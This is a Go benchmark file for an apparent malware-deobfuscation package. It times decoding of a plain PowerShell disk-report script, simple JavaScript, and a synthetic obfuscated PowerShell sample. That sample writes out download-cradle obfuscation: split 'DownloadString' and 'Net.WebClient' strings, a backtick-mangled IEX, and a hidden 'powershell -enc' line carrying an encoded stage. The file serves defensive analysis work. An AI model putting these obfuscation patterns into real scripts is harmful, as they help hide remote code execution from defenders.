package decode

import (
	"context"
	"strings"
	"testing"

	"github.com/automaldesc/automaldesc/analysis/lang"
)

// plainScript is a typical non-obfuscated admin script of about 5 KB.
func plainScript() string {
	const block = `# Collect disk usage and write a report.
param([string]$ComputerName = $env:COMPUTERNAME, [int]$Threshold = 80)
function Get-DiskReport {
    [CmdletBinding()]
    param([string]$Name)
    $disks = Get-CimInstance -ClassName Win32_LogicalDisk -ComputerName $Name -Filter "DriveType=3"
    foreach ($d in $disks) {
        $used = [math]::Round((($d.Size - $d.FreeSpace) / $d.Size) * 100, 1)
        if ($used -gt $Threshold) {
            Write-Warning ("Disk {0} on {1} is {2}% full" -f $d.DeviceID, $Name, $used)
        }
        [pscustomobject]@{ Computer = $Name; Drive = $d.DeviceID; UsedPercent = $used }
    }
}
$report = Get-DiskReport -Name $ComputerName
$report | Export-Csv -Path (Join-Path $env:TEMP 'disk-report.csv') -NoTypeInformation
Write-Host "Report written for $ComputerName" -ForegroundColor Green
`
	return strings.Repeat(block, 5000/len(block)+1)[:5000]
}

// obfuscatedScript is a 5 KB script with several layers of obfuscation.
func obfuscatedScript(tb testing.TB) string {
	stage := gzipStage(b64bytes(gzipBytes(tb, cradle)))
	head := "$a = ('Down'+'load'+'Str'+'ing'); $b = (\"{1}{0}\" -f 'Client','Net.Web'); I`E`X ([char]87+[char]114)\n" +
		"powershell -w hidden -enc " + b64u16(stage) + "\n"
	body := plainScript()
	return head + body[:5000-len(head)]
}

func benchDecode(b *testing.B, src string, l lang.Language) {
	b.ReportAllocs()
	b.SetBytes(int64(len(src)))
	ctx := context.Background()
	for b.Loop() {
		if _, err := Decode(ctx, src, l, Options{}); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkDecodePlain5K(b *testing.B)      { benchDecode(b, plainScript(), lang.PowerShell) }
func BenchmarkDecodeObfuscated5K(b *testing.B) { benchDecode(b, obfuscatedScript(b), lang.PowerShell) }
func BenchmarkDecodePlainJS5K(b *testing.B) {
	benchDecode(b, strings.Repeat("function add(a, b) { return a + b; } // sum\nvar msg = 'Total: ' + add(1, 2);\nconsole.log(msg);\n", 55), lang.JavaScript)
}
